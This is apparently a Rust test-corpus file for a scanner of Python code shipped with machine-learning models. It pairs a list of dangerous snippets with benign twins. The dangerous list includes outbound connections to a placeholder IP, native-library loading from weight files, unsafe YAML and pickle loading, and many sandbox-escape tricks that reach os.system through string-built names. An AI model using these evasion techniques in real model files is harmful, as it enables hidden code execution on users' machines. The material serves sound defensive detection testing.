//! Python that loaders run beside a model, by what it reaches: each danger of the list that code knows, the ways round the
//! interpreter's names, containers that are filled, and what is ordinary in the code of models.

use super::Sample;

const TECHNIQUE: &str = "code-dangers";

/// Code that an import runs.
const ATTACKS: &[&str] = &[
    // The network.
    "import smtplib\ns = smtplib.SMTP('203.0.113.9', 25)\ns.sendmail('a@a', 'b@b', 'x')\n",
    "import ftplib\nftplib.FTP('203.0.113.9', 'a', 'b')\n",
    "import poplib\npoplib.POP3('203.0.113.9')\n",
    "import nntplib\nnntplib.NNTP('203.0.113.9')\n",
    "import telnetlib as t\nt.Telnet('203.0.113.9')\n",
    "import imaplib\nimaplib.IMAP4_stream('echo x')\n",
    "import _socket\ns = _socket.socket(2, 1, 0)\ns.connect(('203.0.113.9', 4444))\n",
    "import socketserver\nclass H(socketserver.StreamRequestHandler): pass\nsocketserver.TCPServer(('', 4444), H).serve_forever()\n",
    "from multiprocessing.connection import Client\nc = Client(('203.0.113.9', 4444))\n",
    "from multiprocessing.managers import BaseManager\nBaseManager(address=('203.0.113.9', 4444)).connect()\n",
    "from http.server import HTTPServer, SimpleHTTPRequestHandler as H\nHTTPServer(('', 80), H).serve_forever()\n",
    "from xmlrpc.client import ServerProxy\nServerProxy('http://203.0.113.9').a()\n",
    "from wsgiref.simple_server import make_server\nmake_server('', 80, None)\n",
    "import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n    await loop.create_connection(asyncio.Protocol, '203.0.113.9', 1)\nasyncio.run(f())\n",
    "import requests\ns = requests.Session()\ns.post('http://203.0.113.9', data='x')\n",
    "import httpx\nwith httpx.Client() as c:\n    c.get('http://203.0.113.9')\n",
    // Native code.
    "from cffi import FFI\nFFI().dlopen('./weights.bin')\n",
    "import _ctypes\n_ctypes.dlopen('./weights.bin', 2)\n",
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)\n",
    // Text that is run.
    "import timeit\ntimeit.timeit('x = 1', number=1)\n",
    "import cProfile\ncProfile.run('x = 1')\n",
    "import profile as p\np.run('x = 1')\n",
    "import trace\ntrace.Trace().run('x = 1')\n",
    "import bdb\nbdb.Bdb().run('x = 1')\n",
    "import doctest\ndoctest.debug_src('>>> 1')\n",
    "import code\ncode.InteractiveInterpreter().runsource('x = 1')\n",
    "import tkinter\ntkinter.Tcl().eval('exec echo')\n",
    "import _xxsubinterpreters as i\ni.run_string(i.create(), 'x = 1')\n",
    "import numexpr\nnumexpr.evaluate(input())\n",
    "import pandas as pd\npd.eval(open('config.json').read())\n",
    "import yaml\nyaml.unsafe_load(open('config.yaml'))\n",
    "import yaml\nyaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)\n",
    "import yaml\nyaml.load('!!python/object/apply:os.getcwd []', yaml.Loader)\n",
    "import typing\nclass A: pass\nA.__annotations__ = {'a': '__imp' + 'ort__(\"o\" + \"s\")'}\ntyping.get_type_hints(A)\n",
    // Programs.
    "from multiprocessing import util\nutil.spawnv_passfds(b'/bin/echo', [b'echo'], [])\n",
    "import _posixsubprocess as p\np.fork_exec([b'/bin/echo'], [b'/bin/echo'])\n",
    "import pydoc\npydoc.pipepager('x', 'cat')\n",
    "from distutils.spawn import spawn\nspawn(['echo'])\n",
    "import uuid\nuuid._get_command_stdout('echo', 'x')\n",
    "import sh\nsh.echo('x')\n",
    "from IPython.utils.process import system as s\ns('echo x')\n",
    "import fabric\nfabric.Connection('a').run('echo')\n",
    // Imports.
    "import importlib._bootstrap as b\nb._gcd_import('builtins').exec('x = 1')\n",
    "import site\nsite.addsitedir('assets')\n",
    "import sys\nclass F:\n    def find_spec(self, n, p, t=None): pass\nsys.meta_path.insert(0, F())\n",
    "import logging.config\nlogging.config.dictConfig({'version': 1, 'formatters': {'f': {'()': 'os.system', 'command': 'echo'}}})\n",
    "import logging.config as c\nc.fileConfig('logging.ini')\n",
    "import sys\nsys.modules['json'] = sys\n",
    // Round the names of the interpreter.
    "len.__self__.exec('x = 1')\n",
    "print.__self__.eval('1')\n",
    "import time\ntime.sleep.__self__\nimport os\nos.getcwd.__self__.system('echo x')\n",
    "import sys\nsys._getframe().f_builtins['exec']('x = 1')\n",
    "try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_builtins['exec']('x = 1')\n",
    "def g():\n    yield\ng().gi_frame.f_builtins['eval']('1')\n",
    "def f(): pass\nf.__code__ = f.__code__.replace(co_code=bytes(4))\nf()\n",
    "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'exec'][0]('1')\n",
    "import operator\noperator.attrgetter('__class__.__base__.__subclasses__')(())()\n",
    "object.__dict__['__sub' + 'classes__'](object)\n",
    "t = vars(type)\nt['__subclasses__'](object)\n",
    "setattr(__import__('json'), 'loads', eval)\n",
    "__spec__.loader.load_module('os').system('echo x')\n",
    // Containers that are filled.
    "import os\nl = []\nl.append(getattr)\nl[0](os, 'sys' + 'tem')('echo x')\n",
    "import os\nd = {}\nd['f'] = getattr\nd['f'](os, 'sys' + 'tem')('echo x')\n",
    "import os\nd = dict(f=getattr)\nd['f'](os, 'sys' + 'tem')('echo x')\n",
    "import os\nd = {n: getattr for n in ['a', 'b']}\nd['a'](os, 'sys' + 'tem')('echo x')\n",
    "import os\nd = {'f': getattr}\nfor g in d.values():\n    g(os, 'sys' + 'tem')('echo x')\n",
    "import os\nn = '%s%s' % ('sys', 'tem')\nd = {}\nd.update(f=vars(os).get(n))\n",
    "import os\nn = '{0}{1}'.format('sys', 'tem')\ngetattr(os, n)('echo x')\n",
    // Files.
    "from pathlib import Path\nPath('/usr/local/bin/python').write_text('x')\n",
    "import os\nos.replace('a', '/usr/bin/b')\n",
    "import torch\ntorch.load('/tmp/other.bin', weights_only=False)\n",
    "import pickle\npickle.loads(b'x')\n",
];

/// Code of models as people write it.
const HARMLESS: &[&str] = &[
    "from huggingface_hub.dataclasses import strict\nfrom huggingface_hub import PyTorchModelHubMixin\n\n\n@strict\nclass Config:\n    pass\n\n\nclass Net(PyTorchModelHubMixin):\n    pass\n",
    "import torch\nimport numba\nfrom torch import jit\n\n\n@torch.jit.script\ndef f(x):\n    return x\n\n\n@numba.jit(nopython=True)\ndef g(x):\n    return x\n\n\ntorch._dynamo.config.cache_size_limit = 64\nh = torch.compile(f)\n",
    "import timeit\nimport cProfile\nstart = timeit.default_timer()\n\n\ndef profile(run):\n    profiler = cProfile.Profile()\n    profiler.enable()\n    run()\n    profiler.disable()\n",
    "import inspect\nimport sys\nimport importlib.metadata\nfrom importlib.util import find_spec\nHAS = find_spec('flash_attn') is not None\nVERSION = importlib.metadata.version('torch')\nsys.setrecursionlimit(5000)\nsys.path.append('.')\n\n\ndef names(f):\n    return inspect.signature(f).parameters, f.__code__.co_varnames, f.__self__\n",
    "import gc\nimport torch\nimport unittest\ngc.collect()\n\n\nclass Test(unittest.TestCase):\n    def test_net(self):\n        self.assertTrue(gc.get_objects())\n",
    "import click\nimport jinja2\nfrom rich.console import Console\nconsole = Console()\ntemplate = jinja2.Template('{{ x }}')\n\n\n@click.command()\ndef main():\n    console.print(template.render(x=1))\n",
    "import asyncio\nimport ssl\nimport urllib.parse\nfrom http import HTTPStatus\nfrom urllib.error import URLError\nlock = asyncio.Lock()\nOK = HTTPStatus.OK\nhost = urllib.parse.urlparse('https://a.example/b').netloc\ncontext = ssl.create_default_context()\n",
    "import logging\nimport logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'class': 'logging.StreamHandler'}}, 'root': {'handlers': ['h']}})\n",
    "import joblib\nimport torch\nmodel = joblib.load('model.joblib')\nweights = torch.load('weights.bin', map_location='cpu', weights_only=True)\n",
    "import numpy as np\nimport requests\ntable = np.load('table.npy')\nsession = requests.Session()\nsession.headers.update({'a': 'b'})\nrequests.packages.urllib3.disable_warnings()\n",
    "import yaml\nwith open('config.yaml') as f:\n    config = yaml.load(f, Loader=yaml.FullLoader)\nother = yaml.safe_load('a: 1')\n",
    "LAYERS = []\nREGISTRY = {}\n\n\ndef register(name):\n    def add(cls):\n        REGISTRY[name] = cls\n        LAYERS.append(cls)\n        return cls\n    return add\n\n\n@register('a')\nclass A:\n    pass\n\n\nnet = REGISTRY['a']()\nlayers = [layer() for layer in LAYERS]\n",
    "import multiprocessing as mp\nfrom concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor\nmp.set_start_method('spawn', force=True)\nqueue = mp.Queue()\npool = ThreadPoolExecutor(4)\n",
    "import subprocess\nfrom subprocess import PIPE, DEVNULL\nOPTIONS = dict(stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=DEVNULL)\n",
    "import setuptools\nfrom distutils.version import LooseVersion\nfrom distutils.util import strtobool\nOLD = LooseVersion('1.0') < LooseVersion('2.0')\nFLAG = strtobool('yes')\n",
    "from transformers import AutoConfig, AutoModel, pipeline\nfrom transformers.utils import is_flash_attn_2_available\nfrom transformers.utils.hub import cached_file\nif is_flash_attn_2_available():\n    from flash_attn import flash_attn_func\nAutoConfig.register('x', object)\n",
];

pub(crate) fn samples() -> Vec<Sample> {
    let attacks = ATTACKS.iter().enumerate().map(|(at, code)| {
        let name = format!("danger-{at}/modeling_net.py");
        Sample::attack(TECHNIQUE, name, code.as_bytes().to_vec())
    });
    let twins = HARMLESS.iter().enumerate().map(|(at, code)| {
        let name = format!("danger-plain-{at}/modeling_net.py");
        Sample::twin(TECHNIQUE, name, code.as_bytes().to_vec())
    });
    attacks.chain(twins).collect()
}
